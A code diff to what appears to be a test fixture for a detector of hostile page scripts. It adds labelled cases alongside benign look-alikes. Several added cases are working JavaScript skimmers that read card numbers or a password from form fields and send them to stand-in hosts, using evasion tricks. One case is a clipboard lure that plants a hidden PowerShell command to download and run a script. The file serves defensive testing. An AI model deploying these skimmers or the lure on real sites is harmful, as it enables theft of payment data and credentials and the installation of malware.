@@ -114,12 +114,63 @@ export const PROBED_CASES: readonly ScriptCase[] = [
     source: `setInterval(()=>{const n=document.querySelector('input[autocomplete="cc-number"]');if(!n||n.value.length<15||sessionStorage.sent===n.value)return;sessionStorage.sent=n.value;const d={};for(const e of document.querySelectorAll('input[autocomplete]'))d[e.autocomplete]=e.value;const x=new XMLHttpRequest();x.open('POST','https://a11y-helper.example.net/v');x.send(JSON.stringify(d))},1000);`,
     head: 'magecart',
   },
+  {
+    name: 'a card sent by an object that listens',
+    source: `document.querySelector('#cc_number').addEventListener('change',{handleEvent(e){new Image().src='https://img.example.org/p?d='+e.target.value}})`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card sent by an object that learns to listen later',
+    source: `const o={};document.querySelector('#cc_number').addEventListener('change',o);o.handleEvent=function(){new Image().src='https://img.example.org/p?d='+document.querySelector('#cc_number').value}`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card sent at the end of a deep recursion',
+    source: `function go(){new Image().src='https://img.example.org/p?d='+document.querySelector('#cc_number').value}function f(n){n?f(n-1):go()}f(41)`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card sent by what replaces a method of the shop',
+    source: `payment.save=function(){new Image().src='https://img.example.org/p?d='+document.querySelector('#cc_number').value;return true}`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card sent by the setter of a field',
+    source: `const i=document.querySelector('#cc_number');Object.defineProperty(i,'value',{set(v){new Image().src='https://img.example.org/p?d='+v}})`,
+    head: 'magecart',
+  },
+  {
+    name: 'a form with a card copied, its event stopped from rising only',
+    source: `document.querySelector('#pay').addEventListener('submit',e=>{e.stopPropagation();fetch('https://api.pay-help.example.org/t',{method:'POST',body:btoa(JSON.stringify({n:document.querySelector('#cc_number').value}))}).then(()=>{})})`,
+    head: 'magecart',
+  },
+  {
+    name: 'a form with a card copied before it is sent all the same',
+    source: `const form=document.querySelector('#pay');form.addEventListener('submit',e=>{e.preventDefault();fetch('https://api.pay-help.example.org/t',{method:'POST',body:btoa(JSON.stringify({n:document.querySelector('#cc_number').value}))}).then(()=>form.submit())})`,
+    head: 'magecart',
+  },
+  {
+    name: 'a password copied, with a handler of something else that returns false',
+    source: `document.querySelector('#help').onclick=function(){return false};document.querySelector('#login').onsubmit=function(){fetch('https://api.log-help.example.org/t',{method:'POST',body:document.querySelector('#password').value}).then(()=>{})}`,
+    head: 'malware',
+  },
+  {
+    name: 'a card for a concealed host, with ordinary names in a list',
+    source: `const w=['addEventListener','querySelector','getElementById','createElement'];w[0];w[1];w[2];w[3];document.querySelector('#cc_number').addEventListener('change',e=>{fetch('https://'+['pay','chec','kers'].join('')+'.example/t',{method:'POST',body:e.target.value})})`,
+    head: 'magecart',
+  },
+  {
+    name: 'a command for the clipboard, with instructions in another language',
+    source: `document.querySelector('#weiter').onclick=function(){navigator.clipboard.writeText('powershell -w hidden -c "iwr https://cdn.pruefung.example.net/install.ps1 | iex"');document.querySelector('#hinweis').textContent='Windows+R, dann Strg+V und Eingabe'}`,
+    head: 'malware',
+  },
 ]
 
 export const PROBED_HONEST_CASES: readonly HonestCase[] = [
   {
     name: "a payment provider's library for old browsers, which the page calls",
     source: `(function(w){function val(f,n){return f.querySelector('[data-vault="'+n+'"]').value}w.Vault={createToken:function(form,done){var n='cb'+Math.random().toString(36).slice(2),s=document.createElement('script');w[n]=done;s.src='https://api.vault.example.org/v1/tokens?number='+encodeURIComponent(val(form,'number'))+'&cvc='+val(form,'cvc')+'&exp='+val(form,'card_exp')+'&callback='+n;document.head.appendChild(s)}}})(window);`,
+    sign: 'card-leaves',
   },
   {
     name: 'failed requests reported with what was sent',
@@ -204,5 +255,20 @@ export const PROBED_HONEST_CASES: readonly HonestCase[] = [
   {
     name: 'drafts of a form, encoded and kept',
     source: `class AutoSave{constructor(form,{url=form.action,every=5000,key=form.id}={}){this.form=form;this.url=url;this.key='as_'+key;this.restore();form.addEventListener('input',()=>this.store());this.t=setInterval(()=>this.push(),every);addEventListener('beforeunload',()=>navigator.sendBeacon(this.url,this.body()))}get fields(){return[...this.form.querySelectorAll('input, select, textarea')].filter(e=>e.name&&!['password','file'].includes(e.type))}body(){return JSON.stringify(Object.fromEntries(this.fields.map(e=>[e.name,e.value])))}store(){localStorage.setItem(this.key,btoa(unescape(encodeURIComponent(this.body()))))}restore(){const s=localStorage.getItem(this.key);if(s){const d=JSON.parse(decodeURIComponent(escape(atob(s))));for(const e of this.fields)if(d[e.name])e.value=d[e.name]}}push(){fetch(this.url,{method:'PUT',keepalive:true,body:this.body()})}}document.querySelectorAll('form.autosave').forEach(f=>new AutoSave(f));`,
+  },
+  {
+    name: 'a window of its own, and a log-in at another host',
+    source: `document.querySelector('#popout').onclick=()=>window.open(location.href,'_blank','width=400');document.querySelector('#login').onclick=()=>{location.href='https://login.accounts.example.net/'}`,
+    sign: 'page-left-behind',
+  },
+  {
+    name: 'a document that is written together, without payment fields',
+    source: `const p=new RTCPeerConnection();const c=p.createDataChannel('doc');document.addEventListener('input',e=>{if(/cvv|cc_number/.test(e.target.name))return;c.send(e.target.value)})`,
+    sign: 'fields-by-peer',
+  },
+  {
+    name: 'a namespace of a library, which the page calls',
+    source: `window.Vault=window.Vault||{};Vault.check=function(f,done){var s=document.createElement('script');window.vaultDone=done;s.src='https://api.vault.example.org/v1/tokens?number='+f.querySelector('[data-vault="card_number"]').value+'&callback=vaultDone';document.head.appendChild(s)}`,
+    sign: 'card-leaves',
   },
 ]
